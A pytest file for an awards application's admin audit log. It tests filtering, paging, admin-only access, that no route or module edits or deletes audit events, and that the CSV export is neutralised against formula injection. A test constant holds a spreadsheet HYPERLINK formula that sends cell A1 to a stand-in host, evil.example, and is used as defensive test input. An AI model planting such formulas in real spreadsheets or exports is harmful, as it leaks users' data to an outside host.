"""The audit log (/admin/audit): filters by actor, action, object and dates, pages, the CSV
export (neutralised against formula injection, and itself audited), admins only; and no
page or command changes or removes an entry."""
import csv
import io
import re
from datetime import UTC, datetime
from html import unescape
from pathlib import Path

import pytest
from sqlalchemy import delete, event, select

from awards.accounts.enums import Role
from awards.admin.audit_csv import neutralise
from awards.core.audit import AuditEvent, record
from awards.extensions import db

AWARDS = Path(__file__).resolve().parents[2] / "awards"
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def page(response):
    assert response.status_code == 200
    return response.get_data(as_text=True)


def listed(text):
    """The actions listed in the table, in order."""
    table = re.search(r'<table class="table" id="audit-log">.*?</table>', text, re.S)
    if table is None:
        return []
    return [unescape(a) for a in re.findall(r"</td>\s*<td>([a-z_.]+)</td>", table.group(0))]


def plant(action, actor=None, obj=None, at=None, **details):
    made = record(action, obj, actor=actor, **details)
    if at:
        made.at = at
    db.session.commit()
    return made


def csv_rows(response):
    assert (response.status_code, response.mimetype) == (200, "text/csv")
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


@pytest.fixture
def events(admin, make_user):
    """Three people's events over a month (ids by creation); Ada signed in before them."""
    rosa = make_user(name="Rosa Resident", email="rosa@example.com")
    hal = make_user(name="Hal Helper", email="hal@example.com")
    db.session.execute(delete(AuditEvent))  # test set-up: only the planted events
    db.session.commit()
    return {
        "early": plant("nomination.started", rosa, rosa, datetime(2026, 11, 1, 12, tzinfo=UTC)),
        "middle": plant("user.role_granted", admin, hal, datetime(2026, 11, 15, 12, tzinfo=UTC),
                        role="helper"),
        "late": plant("cycle.results_published", admin, None,
                      datetime(2026, 12, 1, 12, tzinfo=UTC)),
        "rosa": rosa, "hal": hal,
    }


def test_audit_log_lists_every_event_newest_first(client, events):
    text = page(client.get("/admin/audit"))

    assert listed(text) == ["cycle.results_published", "user.role_granted",
                                "nomination.started"]
    assert "Rosa Resident" in text and "<li>role: helper</li>" in text
    assert '<caption id="audit-caption" class="visually-hidden">' in text
    assert '<th scope="col">When</th>' in text


@pytest.mark.parametrize(("query", "expected"), [
    ({"actor": "rosa"}, ["nomination.started"]),
    ({"actor": "ADA.ADMIN@EXAMPLE"}, ["cycle.results_published", "user.role_granted"]),
    ({"action": "user.role_granted"}, ["user.role_granted"]),
    ({"object_type": "user"}, ["user.role_granted", "nomination.started"]),
    ({"date_from": "2026-11-10", "date_to": "2026-11-30"}, ["user.role_granted"]),
    ({"date_to": "2026-11-01"}, ["nomination.started"]),
    ({"date_from": "2026-12-01", "actor": "ada"}, ["cycle.results_published"]),
])
def test_audit_log_filters(client, events, query, expected):
    text = page(client.get("/admin/audit", query_string=query))

    assert listed(text) == expected


def test_audit_log_filters_by_object_id(client, events):
    hal = events["hal"]
    text = page(client.get("/admin/audit", query_string={"object_type": "user",
                                                           "object_id": hal.id}))

    assert listed(text) == ["user.role_granted"]


def test_audit_log_bad_filters_are_shown_and_filter_nothing(client, events):
    text = page(client.get("/admin/audit", query_string={
        "date_from": "2026-12-01", "date_to": "2026-11-01", "object_id": "-3",
        "action": "<script>nope</script>"}))

    assert "The end date must be on or after the start date." in text
    assert "Enter a record number." in text
    assert "<script>nope" not in text
    # date_from still applies; the bad ones do not.
    assert listed(text) == ["cycle.results_published"]


def test_audit_log_pages_keep_the_filters(client, admin):
    for number in range(60):
        record("panel.declared", None, actor=admin, number=number)
    db.session.commit()

    first = page(client.get("/admin/audit", query_string={"action": "panel.declared"}))
    second = page(client.get("/admin/audit", query_string={"action": "panel.declared",
                                                           "page": 2}))

    assert len(listed(first)) == 50 and len(listed(second)) == 10
    assert "60 entries · page 1 of 2" in first
    assert 'href="/admin/audit?page=2&amp;action=panel.declared"' in first
    assert "<li>number: 59</li>" in first and "<li>number: 0</li>" in second
    # A page beyond the last is empty, not an error.
    assert listed(page(client.get("/admin/audit?page=99"))) == []


def test_export_is_neutralised_filtered_and_audited(client, admin, make_user):
    mallory = make_user(name=HOSTILE, email="mallory@example.com")
    plant("user.profile_updated", mallory, mallory, note=HOSTILE, other="+1")

    response = client.post("/admin/audit/export", data={"actor": "mallory"})

    header, *rows = csv_rows(response)
    assert header[:4] == ["When (UTC)", "Actor", "Actor e-mail", "Action"]
    assert 'attachment; filename="audit-log-' in response.headers["Content-Disposition"]
    [row] = rows
    assert row[1] == "'" + HOSTILE
    assert row[3] == "user.profile_updated"
    assert row[8] == f"note: '{HOSTILE}; other: '+1"
    # The export is recorded, with who, what filter and how many rows; not in its own file.
    exported = db.session.scalars(select(AuditEvent).where(
        AuditEvent.action == "audit.exported")).all()
    assert [(e.actor_id, e.details) for e in exported] == [
        (admin.id, {"rows": 1, "filter_actor": "mallory"})]
    # The next export sees it.
    rows = csv_rows(client.post("/admin/audit/export", data={"action": "audit.exported"}))[1:]
    assert [(r[1], r[3]) for r in rows] == [("Ada Admin", "audit.exported")]


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_neutralise_prefixes_formula_starts(cell):
    assert neutralise(cell) == "'" + cell


def test_neutralise_leaves_other_cells():
    assert [neutralise(c) for c in ("Ada", "", None, 7, "a=b")] == ["Ada", "", "", "7", "a=b"]


@pytest.mark.parametrize("roles", [(), (Role.HELPER,), (Role.PANEL_MEMBER,)])
def test_audit_log_is_for_admins_only(app, client, make_user, sign_in, roles):
    anonymous = app.test_client()
    for method, path in (("GET", "/admin/audit"), ("POST", "/admin/audit/export")):
        response = anonymous.open(path, method=method)
        assert response.status_code == 302
        assert response.headers["Location"].startswith("/account/sign-in?next=")
    sign_in(make_user(roles=roles))
    assert client.get("/admin/audit").status_code == 403
    assert client.post("/admin/audit/export").status_code == 403
    assert db.session.scalar(select(AuditEvent).where(
        AuditEvent.action == "audit.exported")) is None


# --- nobody edits or deletes the log ----------------------------------------------------------

def test_audit_routes_only_read_or_export(app):
    rules = {r.endpoint: r.methods - {"HEAD", "OPTIONS"} for r in app.url_map.iter_rules()
             if r.rule.startswith("/admin/audit")}
    assert rules == {"admin_audit.index": {"GET"}, "admin_audit.export": {"POST"}}


def test_no_code_updates_or_deletes_audit_events():
    """AuditEvent is read in the admin's audit queries and written by record() only; no
    module (view, service, command) updates or deletes it, in bulk or one at a time, but
    data protection's two, which remove personal data from it."""
    users = {}
    for path in AWARDS.rglob("*.py"):
        source = path.read_text(encoding="utf-8")
        if "AuditEvent" in source:
            users[str(path.relative_to(AWARDS))] = source
        assert not re.search(r"(update|delete)\(\s*AuditEvent|AuditEvent\)?\.(query\.)?"
                             r"(update|delete)|audit_event.*(UPDATE|DELETE)", source), path
    # The law comes first in two places, both for personal data only and each audited as
    # counts: retention blanks the network addresses of old events, and erasure takes a
    # person's details out of the events about them (what was done, and when, stays).
    # Two-factor sign-in reads it: the failed codes of the last minutes lock an account.
    assert sorted(users) == ["accounts/two_factor.py", "admin/queries/audit.py",
                             "admin/services/retention.py",
                             "admin/services/sources.py", "core/audit.py", "models.py"]
    # The model exposes no way to change itself.
    own = {name for name in vars(AuditEvent) if not name.startswith("_")}
    assert own <= {"id", "at", "actor_id", "action", "object_type", "object_id", "from_state",
                   "to_state", "details", "ip_address", "metadata", "registry"}


def test_no_route_changes_or_deletes_an_audit_event(app, client, admin, events):
    """Every GET page and every admin POST, as an admin: no AuditEvent is ever updated or
    deleted (only added), and the existing rows are unchanged."""
    touched = []

    def guard(session, _context, _instances):
        touched.extend(o for o in session.dirty | session.deleted if isinstance(o, AuditEvent))

    before = db.session.execute(select(AuditEvent.id, AuditEvent.action, AuditEvent.details)
                                .order_by(AuditEvent.id)).all()
    event.listen(db.session, "before_flush", guard)
    try:
        for rule in app.url_map.iter_rules():
            if "<" in rule.rule or rule.endpoint in {"static", "accounts.sign_out"}:
                continue
            if "GET" in rule.methods:
                client.get(rule.rule)
            elif rule.rule.startswith("/admin"):
                client.post(rule.rule)
    finally:
        event.remove(db.session, "before_flush", guard)
    assert touched == []
    after = db.session.execute(select(AuditEvent.id, AuditEvent.action, AuditEvent.details)
                               .order_by(AuditEvent.id)).all()
    assert after[:len(before)] == before
